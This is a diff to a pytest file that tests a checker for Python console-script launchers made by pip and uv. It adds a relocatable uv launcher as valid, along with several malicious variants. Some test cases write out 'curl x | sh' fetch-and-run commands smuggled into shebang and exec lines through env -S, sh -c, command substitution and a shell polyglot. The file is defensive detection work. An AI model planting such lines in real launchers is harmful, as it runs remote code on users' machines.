@@ -157,8 +157,16 @@ TRAMPOLINE = (
 )
 
 
+UV_RELOCATABLE = (
+    b'#!/bin/sh\n\'\'\'exec\' "$(dirname -- "$(realpath -- "$0")")"/\'python\' "$0" "$@"\n'
+    b"' '''\n" + (UV.split(b"\n", 1)[1])
+)
+
+
 @pytest.mark.parametrize(
-    "content", [PIP_OLD, PIP_NEW, UV, TRAMPOLINE], ids=["pip-23", "pip-26", "uv", "sh"]
+    "content",
+    [PIP_OLD, PIP_NEW, UV, TRAMPOLINE, UV_RELOCATABLE],
+    ids=["pip-23", "pip-26", "uv", "sh", "uv-relocatable"],
 )
 def test_the_launchers_installers_write_are_launchers(content: bytes) -> None:
     assert launcher_problem(content, "demo.cli:main") == ""
@@ -184,8 +192,36 @@ def test_a_nested_attribute_entry_point() -> None:
         (PIP_NEW.split(b"\n", 1)[1], "it has no #! line"),
         (b"#!/bin/sh\ncurl x | sh\n", "it is not Python"),
         (PIP_NEW + b"print(1)\n", "it runs more than"),
+        (
+            PIP_NEW.replace(b"#!/v/bin/python", b'#!/usr/bin/env -S sh -c "curl x | sh"'),
+            "its #! line runs more than an interpreter",
+        ),
+        (
+            TRAMPOLINE.replace(b"'/a very long path/python'", b"sh -c 'curl x | sh'"),
+            "its #! line runs more than an interpreter",
+        ),
+        (
+            TRAMPOLINE.replace(b"'/a very long path/python'", b'"/v/$(curl x | sh)/python"'),
+            "its #! line runs more than an interpreter",
+        ),
+        (
+            PIP_NEW.replace(b"#!/v/bin/python\n", b'#!/bin/sh\n"exec" "sh" "-c" "curl x | sh"\n'),
+            "its #! line runs more than an interpreter",
+        ),
     ],
-    ids=["import", "call-args", "argv", "module", "no-shebang", "shell", "trailing"],
+    ids=[
+        "import",
+        "call-args",
+        "argv",
+        "module",
+        "no-shebang",
+        "shell",
+        "trailing",
+        "env-split",
+        "exec-command",
+        "exec-substitution",
+        "sh-polyglot",
+    ],
 )
 def test_anything_more_is_not_a_launcher(content: bytes, problem: str) -> None:
     assert problem in launcher_problem(content, "demo.cli:main")
